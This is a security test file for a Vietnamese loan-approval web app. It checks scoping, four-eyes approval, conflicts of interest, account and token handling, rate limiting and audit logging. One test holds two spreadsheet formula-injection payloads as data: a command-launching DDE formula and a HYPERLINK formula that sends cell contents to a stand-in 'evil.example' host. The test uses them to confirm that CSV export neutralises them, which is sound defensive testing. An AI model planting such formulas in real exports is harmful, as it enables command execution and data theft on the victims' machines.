import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { login } from '../../server/domain/sessions.js';
import { verifyPassword } from '../../server/infra/passwords.js';
import { approvalFor, decideAs, nextCitizenId, runStep, startAs, submit, todayInVietnam } from '../support/fixtures.js';
import { settledFootprint } from '../support/observe.js';
import { startStack, type TestStack } from '../support/stack.js';
import { changeOfficer, setOfficerDisabled } from '../../server/domain/officer-accounts.js';
import type { Officer } from '../../server/domain/sessions.js';

let stack: TestStack;
let admin: string;

beforeAll(async () => {
  stack = await startStack();
  admin = await stack.login('admin');
});

afterAll(async () => {
  await stack?.close();
});

async function createOfficer(body: Record<string, unknown>) {
  const response = await stack.api('POST', '/api/admin/officers', { token: admin, body });
  expect(response.status, JSON.stringify(response.body)).toBe(201);
  return response.body;
}

async function freshLogin(username: string, password = 'demo1234'): Promise<string> {
  const response = await stack.api('POST', '/api/auth/login', { body: { username, password } });
  expect(response.status).toBe(200);
  return response.body.token;
}

async function atBankConfirmation() {
  const created = await submit(stack);
  for (const step of ['group-vote', 'ward-verification', 'entrustment'] as const)
    await runStep(stack, created.id, step);
  await startAs(stack, 'bank.officer', created.id, 'bank-approval');
  const proposed = await decideAs(
    stack,
    'bank.officer',
    created.id,
    'bank-approval',
    approvalFor('bank-approval', 45_000_000),
  );
  expect(proposed.body).toMatchObject({
    currentStep: 'bank-approval',
    proposal: { amount: 45_000_000, by: 'bank.officer' },
  });
  return created;
}

describe('scope', () => {
  it("hides another ward's application behind the same 404 as a missing one", async () => {
    const created = await submit(stack);
    const token = await stack.login('ward.TANLAP');
    const other = await stack.api('GET', `/api/applications/${created.id}`, { token });
    const missing = await stack.api('GET', '/api/applications/00000000-0000-4000-8000-000000000000', { token });
    expect(other).toEqual(missing);
    expect(other.status).toBe(404);
    const byCode = await stack.api('POST', `/api/applications/${created.code}/steps/group-vote/start`, { token });
    expect(byCode.status).toBe(404);
  });

  it('lists only what the caller scope covers', async () => {
    await submit(stack, { wardCode: 'TANLAP', groupCode: 'TANLAP-01', householdCategory: 'POOR' });
    await submit(stack);
    const tanlap = await stack.api('GET', '/api/applications?pageSize=100', {
      token: await stack.login('ward.TANLAP'),
    });
    expect(tanlap.body.total).toBeGreaterThan(0);
    expect(tanlap.body.items.every((a: { wardCode: string }) => a.wardCode === 'TANLAP')).toBe(true);
    const women = await stack.api('GET', '/api/applications?pageSize=100', {
      token: await stack.login('assoc.WOMEN.HOABINH'),
    });
    expect(women.body.total).toBe(0);
    const adminList = await stack.api('GET', '/api/applications', { token: admin });
    expect(adminList.body.total).toBe(0);
  });

  it('searches by code, citizen ID or the name typed without diacritics, never beyond the caller scope', async () => {
    const borrower = (citizenId: string) => ({ fullName: 'Trần Thị Đào Hoà', citizenId, dateOfBirth: '1990-02-03' });
    const mine = await submit(stack, { borrower: borrower(nextCitizenId()) });
    const theirs = await submit(stack, {
      wardCode: 'TANLAP',
      groupCode: 'TANLAP-01',
      householdCategory: 'POOR',
      borrower: borrower(nextCitizenId()),
    });
    const token = await stack.login('ward.HOABINH');
    const search = async (q: string) => {
      const response = await stack.api('GET', `/api/applications?pageSize=100&q=${encodeURIComponent(q)}`, { token });
      expect(response.status, JSON.stringify(response.body)).toBe(200);
      return response.body.items.map((a: { code: string }) => a.code);
    };

    expect(await search('tran thi DAO hoa')).toEqual([mine.code]);
    expect(await search('Đào Hoà')).toEqual([mine.code]);
    expect(await search(mine.code.toLowerCase())).toEqual([mine.code]);
    expect(await search(mine.citizenId)).toEqual([mine.code]);
    expect(await search(mine.citizenId.slice(0, 11))).toEqual([]);
    expect(await search(theirs.code)).toEqual([]);
    expect(await search(theirs.citizenId)).toEqual([]);
    const tanlap = await stack.api('GET', '/api/applications?q=dao%20hoa', { token: await stack.login('ward.TANLAP') });
    expect(tanlap.body.items.map((a: { code: string }) => a.code)).toEqual([theirs.code]);
  });

  it('keeps the inbox to what waits on the caller, oldest first, with the waiting time', async () => {
    const first = await submit(stack);
    const second = await submit(stack);
    const token = await stack.login('group.HOABINH-01');
    const inbox = await stack.api('GET', '/api/inbox', { token });
    const codes = inbox.body.items.map((i: { code: string }) => i.code);
    expect(codes.indexOf(first.code)).toBeLessThan(codes.indexOf(second.code));
    expect(inbox.body.items[0]).toMatchObject({
      currentStep: 'group-vote',
      waitingHours: expect.any(Number),
      heldByMe: false,
    });
    const wardInbox = await stack.api('GET', '/api/inbox', { token: await stack.login('ward.HOABINH') });
    expect(wardInbox.body.items.map((i: { code: string }) => i.code)).not.toContain(first.code);
  });
});

describe('four eyes at bank approval', () => {
  it('lets a manager confirm what a credit officer proposed, and shows each stage in the right inbox', async () => {
    const created = await atBankConfirmation();
    const officerInbox = await stack.api('GET', '/api/inbox', { token: await stack.login('bank.officer') });
    expect(officerInbox.body.items.map((i: { code: string }) => i.code)).not.toContain(created.code);
    const managerInbox = await stack.api('GET', '/api/inbox', { token: await stack.login('bank.manager') });
    expect(managerInbox.body.items.map((i: { code: string }) => i.code)).toContain(created.code);
    await startAs(stack, 'bank.manager', created.id, 'bank-approval');
    const confirmed = await decideAs(stack, 'bank.manager', created.id, 'bank-approval', { outcome: 'approve' });
    expect(confirmed.body).toMatchObject({
      currentStep: 'disbursement',
      approved: { amount: 45_000_000 },
      proposal: null,
    });
  });

  it('lets the manager send the proposal back to the credit officer', async () => {
    const created = await atBankConfirmation();
    await startAs(stack, 'bank.manager', created.id, 'bank-approval');
    const sentBack = await decideAs(stack, 'bank.manager', created.id, 'bank-approval', {
      outcome: 'send-back',
      reason: 'Đề nghị thẩm định lại phương án sử dụng vốn',
    });
    expect(sentBack.body).toMatchObject({ currentStep: 'bank-approval', proposal: null, status: 'IN_PROGRESS' });
    expect(sentBack.body.history.at(-1)).toMatchObject({
      type: 'PROPOSAL_SENT_BACK',
      actor: { username: 'bank.manager' },
    });
    expect((await startAs(stack, 'bank.officer', created.id, 'bank-approval')).status).toBe(200);
  });

  it('never lets the officer who proposed also confirm, even after a change of role', async () => {
    const created = await atBankConfirmation();
    const asCredit = await startAs(stack, 'bank.officer', created.id, 'bank-approval');
    expect(asCredit.status).toBe(403);
    expect(asCredit.body.error.code).toBe('ROLE_NOT_ALLOWED');

    await createOfficer({
      username: 'bank.proposer',
      displayName: 'Cán bộ tín dụng kiêm nhiệm',
      role: 'bank_credit_officer',
      bankOfficeCode: 'PGD-KIENXUONG',
      password: 'mat-khau-2026',
    });
    const other = await submit(stack);
    for (const step of ['group-vote', 'ward-verification', 'entrustment'] as const)
      await runStep(stack, other.id, step);
    const proposer = await freshLogin('bank.proposer', 'mat-khau-2026');
    await stack.api('POST', `/api/applications/${other.id}/steps/bank-approval/start`, { token: proposer });
    const proposed = await stack.api('POST', `/api/applications/${other.id}/steps/bank-approval/decision`, {
      token: proposer,
      body: approvalFor('bank-approval'),
    });
    expect(proposed.status).toBe(200);
    const promoted = await stack.api('PATCH', '/api/admin/officers/bank.proposer', {
      token: admin,
      body: { role: 'bank_manager' },
    });
    expect(promoted.status).toBe(200);
    expect((await stack.api('GET', '/api/auth/me', { token: proposer })).status).toBe(401);
    const asManager = await freshLogin('bank.proposer', 'mat-khau-2026');
    const before = await settledFootprint(stack, other.id);
    const confirm = await stack.api('POST', `/api/applications/${other.id}/steps/bank-approval/start`, {
      token: asManager,
    });
    expect(confirm.status).toBe(403);
    expect(confirm.body.error.code).toBe('SAME_OFFICER');
    expect(await settledFootprint(stack, other.id)).toEqual(before);
  });
});

describe('conflicts of interest', () => {
  it('keeps an officer off an application of their own household', async () => {
    await createOfficer({
      username: 'ward.hoabinh.2',
      displayName: 'Cán bộ UBND phường Hòa Bình (2)',
      role: 'ward_officer',
      wardCode: 'HOABINH',
      citizenId: '034178009911',
      password: 'mat-khau-2026',
    });
    const created = await submit(stack, {
      householdMembers: [{ fullName: 'Trần Văn Quang', citizenId: '034178009911', relationship: 'Chồng' }],
    });
    await runStep(stack, created.id, 'group-vote');
    const token = await freshLogin('ward.hoabinh.2', 'mat-khau-2026');
    const refused = await stack.api('POST', `/api/applications/${created.id}/steps/ward-verification/start`, { token });
    expect(refused.status).toBe(403);
    expect(refused.body.error.code).toBe('CONFLICT_OF_INTEREST');
    expect((await startAs(stack, 'ward.HOABINH', created.id, 'ward-verification')).status).toBe(200);
  });

  it("keeps the group leader off their own application and never counts the applicant's vote", async () => {
    const leader = await stack.db.prisma.officerAccount.findUniqueOrThrow({ where: { username: 'group.HOABINH-01' } });
    const own = await submit(stack, {
      borrower: { fullName: leader.displayName, citizenId: leader.citizenId, dateOfBirth: '1962-05-01' },
    });
    const refused = await startAs(stack, 'group.HOABINH-01', own.id, 'group-vote');
    expect(refused.body.error.code).toBe('CONFLICT_OF_INTEREST');

    const member = await stack.db.prisma.groupMember.findFirstOrThrow({
      where: { groupCode: 'HOABINH-01', role: 'MEMBER' },
    });
    const created = await submit(stack, {
      borrower: { fullName: member.fullName, citizenId: member.citizenId, dateOfBirth: '1970-01-01' },
    });
    await startAs(stack, 'group.HOABINH-01', created.id, 'group-vote');
    const tally = {
      meetingDate: todayInVietnam(),
      membersTotal: 10,
      membersPresent: 6,
      applicantPresent: true,
      abstentions: 0,
    };
    const withApplicantVote = await decideAs(stack, 'group.HOABINH-01', created.id, 'group-vote', {
      ...tally,
      votesFor: 4,
      votesAgainst: 2,
    });
    expect(withApplicantVote.status).toBe(422);
    expect(withApplicantVote.body.error.code).toBe('TALLY_INCONSISTENT');
    const counted = await decideAs(stack, 'group.HOABINH-01', created.id, 'group-vote', {
      ...tally,
      votesFor: 3,
      votesAgainst: 2,
    });
    expect(counted.status).toBe(200);
    expect(counted.body.currentStep).toBe('ward-verification');
  });
});

describe('accounts and tokens', () => {
  it('stores passwords as scrypt hashes and never returns them', async () => {
    const created = await createOfficer({
      username: 'ward.donghung.2',
      displayName: 'Cán bộ UBND xã Đông Hưng (2)',
      role: 'ward_officer',
      wardCode: 'DONGHUNG',
      password: 'mat-khau-rat-dai-2026',
    });
    expect(JSON.stringify(created)).not.toMatch(/password|scrypt|mat-khau/);
    const row = await stack.db.prisma.officerAccount.findUniqueOrThrow({ where: { username: 'ward.donghung.2' } });
    expect(row.passwordHash).toMatch(/^scrypt\$/);
    const list = await stack.api('GET', '/api/admin/officers', { token: admin });
    expect(JSON.stringify(list.body)).not.toMatch(/scrypt/);
  });

  it('refuses a scope that does not fit the role', async () => {
    const response = await stack.api('POST', '/api/admin/officers', {
      token: admin,
      body: {
        username: 'sai.pham.vi',
        displayName: 'Sai',
        role: 'association_officer',
        wardCode: 'HOABINH',
        password: 'mat-khau-2026',
      },
    });
    expect(response.status).toBe(422);
    expect(response.body.error.fields[0].path).toBe('associationCode');
  });

  it('never takes the demo password for a new or reset password', async () => {
    const body = { username: 'demo.moi', displayName: 'Demo', role: 'admin', password: 'demo1234' };
    const created = await stack.api('POST', '/api/admin/officers', { token: admin, body });
    expect(created.status).toBe(400);
    expect(created.body.error).toMatchObject({ code: 'VALIDATION_FAILED', fields: [{ path: 'password' }] });
    const reset = await stack.api('POST', '/api/admin/officers/bank.officer/reset-password', {
      token: admin,
      body: { password: 'demo1234' },
    });
    expect(reset.status).toBe(400);
    expect(reset.body.error.fields[0].path).toBe('password');
  });

  it('in production, enables no account that still has the demo password', async () => {
    const production = await stack.serve({ refuseDemoPasswords: true });
    await createOfficer({
      username: 'demo.copy',
      displayName: 'Demo',
      role: 'ward_officer',
      wardCode: 'DONGHUNG',
      password: 'mat-khau-2026',
    });
    // The seed gives every demo account, the administrator included, the demo password's hash.
    const { passwordHash } = await stack.db.prisma.officerAccount.findUniqueOrThrow({ where: { username: 'admin' } });
    await stack.db.prisma.officerAccount.update({ where: { username: 'demo.copy' }, data: { passwordHash } });
    const action = (name: string, baseUrl?: string, body?: unknown) =>
      stack.api('POST', `/api/admin/officers/demo.copy/${name}`, { token: admin, body, baseUrl });

    expect((await action('disable')).status).toBe(200);
    const refused = await action('enable', production);
    expect(refused.status).toBe(409);
    expect(refused.body.error.code).toBe('DEMO_PASSWORD_IN_USE');
    // The demo district of development and tests re-enables its demo accounts.
    expect((await action('enable')).status).toBe(200);

    expect((await action('disable', production)).status).toBe(200);
    expect((await action('reset-password', production, { password: 'mat-khau-moi-2026' })).status).toBe(200);
    expect((await action('enable', production)).body).toMatchObject({ username: 'demo.copy', disabled: false });
  });

  it("stops a disabled account's tokens at once, and an expired token", async () => {
    await createOfficer({
      username: 'ward.tam',
      displayName: 'Cán bộ tạm',
      role: 'ward_officer',
      wardCode: 'HOABINH',
      password: 'mat-khau-2026',
    });
    const token = await freshLogin('ward.tam', 'mat-khau-2026');
    expect((await stack.api('GET', '/api/auth/me', { token })).status).toBe(200);
    expect((await stack.api('POST', '/api/admin/officers/ward.tam/disable', { token: admin })).status).toBe(200);
    expect((await stack.api('GET', '/api/auth/me', { token })).status).toBe(401);
    expect(
      (await stack.api('POST', '/api/auth/login', { body: { username: 'ward.tam', password: 'mat-khau-2026' } }))
        .status,
    ).toBe(401);

    const expiring = await freshLogin('ward.TANLAP');
    await stack.db.prisma.authSession.updateMany({
      where: { account: { username: 'ward.TANLAP' }, revokedAt: null },
      data: { expiresAt: new Date(Date.now() - 1000) },
    });
    expect((await stack.api('GET', '/api/auth/me', { token: expiring })).status).toBe(401);
  });

  it('refuses forged tokens and actor fields injected in a body', async () => {
    const created = await submit(stack);
    const forged = await stack.api('GET', `/api/applications/${created.id}`, { token: 'x'.repeat(43) });
    expect(forged.status).toBe(401);
    const token = await stack.login('group.HOABINH-01');
    await startAs(stack, 'group.HOABINH-01', created.id, 'group-vote');
    const before = await settledFootprint(stack, created.id);
    const injected = await stack.api('POST', `/api/applications/${created.id}/steps/group-vote/decision`, {
      token,
      body: { ...approvalFor('group-vote'), actor: { username: 'bank.manager', role: 'bank_manager' } },
    });
    expect(injected.status).toBe(400);
    expect(injected.body.error.fields[0].path).toBe('(body)');
    expect(await settledFootprint(stack, created.id)).toEqual(before);
  });
});

describe('administrators', () => {
  it('never change their own role, and every change of role or scope is audited with what it was', async () => {
    const own = await stack.api('PATCH', '/api/admin/officers/admin', {
      token: admin,
      body: { role: 'bank_manager', bankOfficeCode: 'PGD-KIENXUONG' },
    });
    expect(own.status).toBe(403);
    expect(own.body.error.code).toBe('SELF_CHANGE_FORBIDDEN');
    const row = await stack.db.prisma.officerAccount.findUniqueOrThrow({ where: { username: 'admin' } });
    expect(row).toMatchObject({ role: 'admin', bankOfficeCode: null });
    // Their own profile is theirs to keep up to date.
    const renamed = await stack.api('PATCH', '/api/admin/officers/admin', {
      token: admin,
      body: { displayName: 'Quản trị hệ thống (chính)' },
    });
    expect(renamed.status).toBe(200);

    await createOfficer({
      username: 'ward.chuyen',
      displayName: 'Cán bộ chuyển công tác',
      role: 'ward_officer',
      wardCode: 'HOABINH',
      password: 'mat-khau-2026',
    });
    const moved = await stack.api('PATCH', '/api/admin/officers/ward.chuyen', {
      token: admin,
      body: { wardCode: 'TANLAP' },
    });
    expect(moved.status).toBe(200);
    const events = await stack.db.prisma.auditEvent.findMany({
      where: { type: 'OFFICER_CHANGED', data: { path: ['username'], equals: 'ward.chuyen' } },
    });
    expect(events).toHaveLength(1);
    expect(events[0]!.actorUsername).toBe('admin');
    expect(events[0]!.data).toMatchObject({
      authorityChanged: true,
      wardCode: 'TANLAP',
      before: { role: 'ward_officer', wardCode: 'HOABINH' },
    });
  });

  it('treat a change of citizen ID as a change of authority: never their own, audited without the digits', async () => {
    const own = await stack.api('PATCH', '/api/admin/officers/admin', {
      token: admin,
      body: { citizenId: '034190009999' },
    });
    expect(own.status).toBe(403);
    expect(own.body.error.code).toBe('SELF_CHANGE_FORBIDDEN');

    await createOfficer({
      username: 'ward.cccd',
      displayName: 'Cán bộ CCCD',
      role: 'ward_officer',
      wardCode: 'HOABINH',
      citizenId: '034190001111',
      password: 'mat-khau-2026',
    });
    const token = await freshLogin('ward.cccd', 'mat-khau-2026');
    const changed = await stack.api('PATCH', '/api/admin/officers/ward.cccd', {
      token: admin,
      body: { citizenId: '034190002222' },
    });
    expect(changed.status, JSON.stringify(changed.body)).toBe(200);
    const event = await stack.db.prisma.auditEvent.findFirstOrThrow({
      where: { type: 'OFFICER_CHANGED', data: { path: ['username'], equals: 'ward.cccd' } },
      orderBy: { id: 'desc' },
    });
    expect(event.data).toMatchObject({
      authorityChanged: true,
      citizenIdChanged: true,
      citizenIdLast4Before: '1111',
      citizenIdLast4After: '2222',
    });
    expect(JSON.stringify(event.data)).not.toMatch(/03419000/);
    // Like a change of role or scope, it starts a new session.
    expect((await stack.api('GET', '/api/auth/me', { token })).status).toBe(401);
  });

  it('always keep one enabled administrator, whoever asks', async () => {
    const self = await stack.api('POST', '/api/admin/officers/admin/disable', { token: admin });
    expect(self.body.error.code).toBe('SELF_CHANGE_FORBIDDEN');
    await createOfficer({ username: 'admin.hai', displayName: 'Quản trị 2', role: 'admin', password: 'mat-khau-2026' });
    const second = await freshLogin('admin.hai', 'mat-khau-2026');
    // Two administrators demoting each other at once: one of them stays.
    const answers = await Promise.all([
      stack.api('PATCH', '/api/admin/officers/admin.hai', {
        token: admin,
        body: { role: 'ward_officer', wardCode: 'HOABINH' },
      }),
      stack.api('PATCH', '/api/admin/officers/admin', {
        token: second,
        body: { role: 'ward_officer', wardCode: 'HOABINH' },
      }),
    ]);
    expect(answers.map((a) => a.status).filter((status) => status === 200)).toHaveLength(1);
    const admins = await stack.db.prisma.officerAccount.findMany({ where: { role: 'admin', disabled: false } });
    expect(admins).toHaveLength(1);
    const [last] = admins;

    // The domain refuses even an actor the HTTP layer would not let through (a script, a stale session).
    const actor: Officer = { ...last!, id: 'script', role: 'admin' } as Officer;
    await expect(
      changeOfficer(stack.db.prisma, actor, last!.username, { role: 'ward_officer', wardCode: 'HOABINH' }),
    ).rejects.toMatchObject({ code: 'LAST_ADMIN' });
    await expect(setOfficerDisabled(stack.db.prisma, actor, 'someone-else', true)).rejects.toMatchObject({
      code: 'NOT_FOUND',
    });
    await expect(
      setOfficerDisabled(stack.db.prisma, { ...actor, username: 'script' }, last!.username, true),
    ).rejects.toMatchObject({ code: 'LAST_ADMIN' });
    expect(await stack.db.prisma.officerAccount.count({ where: { role: 'admin', disabled: false } })).toBe(1);

    // Restore the demo administrator for the tests after this one.
    if (last!.username !== 'admin') {
      const token = await freshLogin(last!.username, 'mat-khau-2026');
      const back = await stack.api('PATCH', '/api/admin/officers/admin', { token, body: { role: 'admin' } });
      expect(back.status).toBe(200);
      admin = await freshLogin('admin');
    }
  });
});

describe('the applicant', () => {
  it('needs the last 4 digits of the citizen ID, and a wrong code and a wrong factor look the same', async () => {
    const created = await submit(stack);
    const ok = await stack.api('GET', `/api/status/${created.code}`, {
      headers: { 'x-citizen-id-last4': created.last4 },
    });
    expect(ok.status).toBe(200);
    const wrongFactor = await stack.api(
      'GET',
      `/api/status/${created.code}?citizenIdLast4=${created.last4 === '0000' ? '1111' : '0000'}`,
    );
    const wrongCode = await stack.api('GET', `/api/status/HOABINH-2026-ZZZZZZ?citizenIdLast4=${created.last4}`);
    expect(wrongFactor).toEqual(wrongCode);
    expect(wrongFactor.status).toBe(404);
    expect((await stack.api('GET', `/api/status/${created.code}`)).status).toBe(400);
  });

  it('answers 429 to someone brute-forcing the status lookup or the login', async () => {
    const limited = await stack.serve({
      rateLimits: { login: { windowMs: 60_000, max: 5 }, statusLookup: { windowMs: 60_000, max: 5 } },
    });
    const created = await submit(stack);
    const statuses: number[] = [];
    for (let guess = 0; guess < 8; guess += 1) {
      const response = await stack.api(
        'GET',
        `/api/status/${created.code}?citizenIdLast4=${String(guess).padStart(4, '0')}`,
        {
          baseUrl: limited,
        },
      );
      statuses.push(response.status);
    }
    expect(statuses.slice(0, 5).every((s) => s === 404 || s === 200)).toBe(true);
    expect(statuses.slice(5)).toEqual([429, 429, 429]);
    const logins: number[] = [];
    for (let attempt = 0; attempt < 7; attempt += 1) {
      logins.push(
        (
          await stack.api('POST', '/api/auth/login', {
            baseUrl: limited,
            body: { username: 'admin', password: `sai${attempt}` },
          })
        ).status,
      );
    }
    expect(logins).toEqual([401, 401, 401, 401, 401, 429, 429]);
  });
});

describe('login timing', () => {
  /** Every hash the login checks a password against. */
  function countingVerifier() {
    const checked: string[] = [];
    const verify = (plain: string, stored: string) => {
      checked.push(stored);
      return verifyPassword(plain, stored);
    };
    return { checked, verify };
  }
  const costOf = (hash: string) => hash.split('$').slice(0, 4).join('$');

  it('does the same password-hash work for an unknown username as for a known one', async () => {
    const known = countingVerifier();
    const unknown = countingVerifier();
    const attempt = (username: string, verify: ReturnType<typeof countingVerifier>['verify']) =>
      login(stack.db.prisma, { username, password: 'doan-bua-2026' }, 60, verify);

    await expect(attempt('bank.officer', known.verify)).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
    await expect(attempt('khong.ton.tai', unknown.verify)).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });

    expect(known.checked).toHaveLength(1);
    expect(unknown.checked).toHaveLength(1);
    // A real scrypt hash with the accounts' cost parameters, not a malformed one that fails at once.
    expect(costOf(unknown.checked[0]!)).toBe(costOf(known.checked[0]!));
    expect(unknown.checked[0]).toMatch(/^scrypt\$\d+\$\d+\$\d+\$[A-Za-z0-9+/=]+\$[A-Za-z0-9+/=]{80,}$/);
  });

  it('never lets a password that matches the decoy in', async () => {
    const always = () => Promise.resolve(true);
    await expect(
      login(stack.db.prisma, { username: 'khong.ton.tai', password: 'x' }, 60, always),
    ).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
  });
});

describe('the audit trail', () => {
  it('records every event with actor, role, scope and time, and exports it as CSV', async () => {
    const created = await submit(stack);
    await runStep(stack, created.id, 'group-vote');
    await settledFootprint(stack, created.id);
    const token = await stack.login('ward.HOABINH');
    const audit = await stack.api('GET', `/api/applications/${created.id}/audit`, { token });
    const types = audit.body.entries.map((e: { type: string }) => e.type);
    expect(types).toEqual(expect.arrayContaining(['SUBMITTED', 'STEP_STARTED', 'STEP_DECIDED', 'EMAIL_SENT']));
    const decided = audit.body.entries.find((e: { type: string }) => e.type === 'STEP_DECIDED');
    expect(decided).toMatchObject({
      step: 'group-vote',
      actor: { username: 'group.HOABINH-01', role: 'group_leader', scope: 'group:HOABINH-01' },
      details: { outcome: 'approve', payload: { votesFor: 7, computedOutcome: 'approve' } },
    });
    const csv = await stack.api('GET', `/api/applications/${created.id}/audit?format=csv`, { token });
    expect(csv.status).toBe(200);
    const lines = (csv.body as string)
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\n');
    expect(lines[0]).toBe('at,seq,type,step,actor_username,actor_role,actor_scope,outcome,reason,details');
    expect(
      lines.some((line) =>
        line.includes('STEP_DECIDED,group-vote,group.HOABINH-01,group_leader,group:HOABINH-01,approve'),
      ),
    ).toBe(true);
  });

  it('exports a reason that looks like a formula as text, never as a live formula', async () => {
    const created = await submit(stack);
    const vote = { ...approvalFor('group-vote'), reason: "@SUM(1+1)*cmd|' /C calc'!A0" };
    await runStep(stack, created.id, 'group-vote', vote);
    const link = '=HYPERLINK("http://evil.example/?x="&A1,"Xem hồ sơ")';
    const withdrawn = await stack.api('POST', `/api/applications/${created.id}/withdraw`, {
      body: { citizenId: created.citizenId, reason: link },
    });
    expect(withdrawn.status, JSON.stringify(withdrawn.body)).toBe(200);
    await settledFootprint(stack, created.id);
    const token = await stack.login('ward.HOABINH');

    const csv = await stack.api('GET', `/api/applications/${created.id}/audit?format=csv`, { token });

    const [header = [], ...rows] = parse((csv.body as string).replace(/^\uFEFF/, '')) as string[][];
    const reasons = rows.map((row) => row[header.indexOf('reason')]).filter(Boolean);
    expect(reasons).toEqual(expect.arrayContaining([`'${vote.reason}`, `'${link}`]));
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('is append-only: the database refuses to change or delete audit rows', async () => {
    const created = await submit(stack);
    await expect(
      stack.db.prisma.auditEvent.updateMany({ where: { applicationId: created.id }, data: { type: 'FORGED' } }),
    ).rejects.toThrow(/append-only/);
    await expect(stack.db.prisma.auditEvent.deleteMany({ where: { applicationId: created.id } })).rejects.toThrow(
      /append-only/,
    );
    expect(await stack.db.prisma.auditEvent.count({ where: { applicationId: created.id, type: 'SUBMITTED' } })).toBe(1);
  });
});
